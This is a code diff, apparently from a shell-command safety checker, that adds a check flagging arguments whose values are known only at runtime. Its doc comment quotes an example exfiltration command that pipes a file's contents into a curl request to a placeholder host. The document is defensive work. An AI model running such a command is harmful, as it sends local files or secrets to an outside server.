@@ -175,6 +175,7 @@ function leaf(
     }
   }
   placePositionals(compiled, parsed, result)
+  demandKnown(compiled, args, result)
   const count = parsed.positionals.length
   if ((spec.min !== undefined && count < spec.min) || (spec.max !== undefined && count > spec.max)) {
     result.kind = worse(result.kind, 'unlisted')
@@ -298,6 +299,16 @@ function byVerb(
     result.reason = denied
   }
   if (spec.check) CHECKS[spec.check]?.({ args, parsed, result, command })
+}
+
+/** `curl https://host/$(cat file)` sends what it reads. */
+function demandKnown(compiled: CompiledSpec, args: readonly Word[], result: Assessment): void {
+  const unknown = compiled.spec.known
+    ? args.find(word => word.value === undefined && !word.choices)
+    : undefined
+  if (!unknown) return
+  result.kind = worse(result.kind, 'unlisted')
+  result.reason = `could send what is only known when it runs: ${unknown.text}`
 }
 
 /** `find … -exec grep -l x {} ;` keeps `-exec`; the words up to `;` or `+` are another command's. */
